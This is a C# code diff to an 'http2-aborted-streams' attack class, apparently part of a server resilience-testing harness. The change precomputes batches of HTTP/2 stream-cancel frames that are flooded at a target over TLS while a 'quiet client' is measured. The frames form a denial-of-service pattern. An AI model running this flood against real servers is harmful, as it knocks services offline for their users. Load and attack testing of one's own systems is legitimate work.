@@ -7,6 +7,10 @@ internal sealed class AbortedStreams() : Attack("http2-aborted-streams", 200)
     private const int Batch = 100;
     private const byte Cancel = 8;
 
+    // Made once: the attackers' own work would slow down the quiet client, too.
+    private static readonly byte[][] Frames = [.. Enumerable.Range(0, Batches).Select(batch =>
+        Enumerable.Range(batch * Batch, Batch).SelectMany(n => Abort((2 * n) + 1)).ToArray())];
+
     public override bool OverTls => true;
 
     protected override async Task TakeTurnAsync(AttackTarget target, int client, CancellationToken ending)
@@ -14,9 +18,8 @@ internal sealed class AbortedStreams() : Attack("http2-aborted-streams", 200)
         var connection = await ConnectHttp2Async(target.Https, client, ending);
         await WriteAsync(connection, async () =>
         {
-            for (var batch = 0; batch < Batches; batch++)
+            foreach (var frames in Frames)
             {
-                byte[] frames = [.. Enumerable.Range(batch * Batch, Batch).SelectMany(n => Abort((2 * n) + 1))];
                 await connection.WriteAsync(frames, ending);
                 Count(Batch);
             }
